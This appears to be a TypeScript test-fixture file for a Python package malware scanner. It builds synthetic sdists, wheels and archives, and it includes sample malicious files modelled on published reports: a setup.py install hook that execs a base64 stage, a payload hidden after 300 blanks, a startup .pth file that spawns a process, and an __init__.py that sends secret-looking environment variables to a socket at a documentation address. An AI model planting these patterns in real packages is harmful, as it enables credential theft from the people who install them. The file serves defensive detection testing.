// Synthetic distributions built in the test (never committed as files): .tar.gz sdists with modern-tar
// and fflate, wheels with fflate's zip. The payloads reproduce patterns from published malicious-package
// write-ups; the base64 in them decodes to harmless text.
import { gzipSync, strToU8, zipSync } from 'fflate';
import { packTar } from 'modern-tar';
import type { DistributionMeta } from '../../../../../utils/analysis/code-scan';

export type Files = Record<string, string | Uint8Array>;

const bytes = (body: string | Uint8Array) => (typeof body === 'string' ? strToU8(body) : body);

/** A .tar.gz sdist: every path is put under "<name>-<version>/" as setuptools does. */
export async function syntheticSdist(name: string, version: string, files: Files): Promise<Uint8Array> {
  const entries = Object.entries(files).map(([path, body]) => {
    const data = bytes(body);
    return { header: { name: `${name}-${version}/${path}`, size: data.length }, body: data };
  });
  return gzipSync(await packTar(entries));
}

/** A wheel: paths as given (dist-info and data folders included by the caller when needed). */
export function syntheticWheel(files: Files): Uint8Array {
  return zipSync(Object.fromEntries(Object.entries(files).map(([path, body]) => [path, bytes(body)])));
}

export function metaFor(filename: string, project: string, version: string, size = 0): DistributionMeta {
  return {
    filename,
    url: `https://files.pythonhosted.org/packages/ab/cd/0123456789abcdef/${filename}`,
    packageType: filename.endsWith('.whl') ? 'bdist_wheel' : 'sdist',
    sha256: null,
    size,
    project,
    version,
  };
}

/** base64 of harmless text, standing in for the encoded second stage of the published samples. */
export const HARMLESS_B64 = Buffer.from("print('synthetic payload: this would have been the malware')").toString('base64');

/**
 * The install-hook pattern of many OSSF malicious-packages reports and vendor write-ups (Checkmarx,
 * Phylum, Sonatype, 2022–2024): a cmdclass "install" override that runs a base64-decoded stage.
 */
export const INSTALL_HOOK_SETUP_PY = `from setuptools import setup, find_packages
from setuptools.command.install import install
import base64
import os


class PostInstallCommand(install):
    """Post-installation for installation mode."""

    def run(self):
        install.run(self)
        exec(base64.b64decode("${HARMLESS_B64}"))


setup(
    name="synthetic-stealer",
    version="1.0.0",
    packages=find_packages(),
    cmdclass={"install": PostInstallCommand},
)
`;

/**
 * The W4SP-stealer style line (2022 write-ups): the payload sits after hundreds of blanks on the same
 * line as setup(), off the right edge of any editor, and reaches exec through __import__('builtins').
 */
export const HIDDEN_LINE_SETUP_PY = `from setuptools import setup

setup(name="synthetic-w4sp", version="0.0.1", packages=["synthetic_w4sp"])${' '.repeat(300)};__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("${HARMLESS_B64}"),'<string>','exec'))
`;

/**
 * A .pth that starts a second process running a decoded stage at every interpreter start: the shape of
 * the 2026 litellm release's litellm_init.pth (PYSEC-2026-2), payload replaced with harmless text.
 */
export const STARTUP_PTH = `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${HARMLESS_B64}'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n`;

/** setuptools' own distutils-precedence.pth, as in setuptools 65 (the version on these machines). */
export const SETUPTOOLS_PTH =
  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";

/** One tar member as modern-tar packs it: a file, or a link ("symlink" / "link") with its target. */
export type TarMember = { name: string; body?: string | Uint8Array; type?: 'file' | 'symlink' | 'link'; linkname?: string };

/** An uncompressed tar of the members in order (duplicates kept), ending with tar's two zero blocks. */
export async function syntheticTar(members: TarMember[]): Promise<Uint8Array> {
  return packTar(
    members.map(({ name, body = '', type = 'file', linkname }) => {
      const data = type === 'file' ? bytes(body) : new Uint8Array(0);
      return { header: { name, size: data.length, type, ...(linkname ? { linkname } : {}) }, body: data };
    }),
  );
}

export type RawZipEntry = { name: string; method: number; data: Uint8Array; size: number; crc?: number };

/**
 * A zip written by hand, for what fflate's zipSync cannot make: members that share one compressed body,
 * a declared size of our choosing, a compression method (bzip2 = 12) we cannot undo.
 */
export function rawZip(entries: RawZipEntry[]): Uint8Array {
  const enc = new TextEncoder();
  const parts: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = enc.encode(e.name);
    const local = new DataView(new ArrayBuffer(30));
    local.setUint32(0, 0x04034b50, true);
    local.setUint16(4, 20, true);
    local.setUint16(8, e.method, true);
    local.setUint32(14, e.crc ?? 0, true);
    local.setUint32(18, e.data.length, true);
    local.setUint32(22, e.size, true);
    local.setUint16(26, name.length, true);
    const dir = new DataView(new ArrayBuffer(46));
    dir.setUint32(0, 0x02014b50, true);
    dir.setUint16(4, 20, true);
    dir.setUint16(6, 20, true);
    dir.setUint16(10, e.method, true);
    dir.setUint32(16, e.crc ?? 0, true);
    dir.setUint32(20, e.data.length, true);
    dir.setUint32(24, e.size, true);
    dir.setUint16(28, name.length, true);
    dir.setUint32(42, offset, true);
    parts.push(new Uint8Array(local.buffer), name, e.data);
    central.push(new Uint8Array(dir.buffer), name);
    offset += 30 + name.length + e.data.length;
  }
  const dirSize = central.reduce((n, c) => n + c.length, 0);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, Math.min(entries.length, 0xffff), true);
  end.setUint16(10, Math.min(entries.length, 0xffff), true);
  end.setUint32(12, dirSize, true);
  end.setUint32(16, offset, true);
  // More than 65,535 members need the ZIP64 end record (and its locator) for their count.
  const zip64: Uint8Array[] = [];
  if (entries.length > 0xffff) {
    const record = new DataView(new ArrayBuffer(56));
    record.setUint32(0, 0x06064b50, true);
    record.setBigUint64(4, 44n, true);
    record.setBigUint64(24, BigInt(entries.length), true);
    record.setBigUint64(32, BigInt(entries.length), true);
    record.setBigUint64(40, BigInt(dirSize), true);
    record.setBigUint64(48, BigInt(offset), true);
    const locator = new DataView(new ArrayBuffer(20));
    locator.setUint32(0, 0x07064b50, true);
    locator.setBigUint64(8, BigInt(offset + dirSize), true);
    locator.setUint32(16, 1, true);
    zip64.push(new Uint8Array(record.buffer), new Uint8Array(locator.buffer));
  }
  const all = [...parts, ...central, ...zip64, new Uint8Array(end.buffer)];
  const out = new Uint8Array(all.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of all) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/**
 * A package __init__.py that sends the environment at import, the shape OSV records for 0requests
 * (MAL-2026-15859: "__init__.py enumerates os.environ … opens a TCP socket … sends the serialized
 * dictionary"); the host is a reserved documentation address (RFC 5737), never reachable.
 */
export const ENV_EXFIL_INIT_PY = `import os, json, socket
__version__ = "1.0"
_found = {k: v for k, v in os.environ.items() if k.startswith(("SECRET", "API", "TOKEN", "KEY"))}
_s = socket.create_connection(("192.0.2.1", 4444))
_s.sendall(json.dumps(_found).encode())
`;
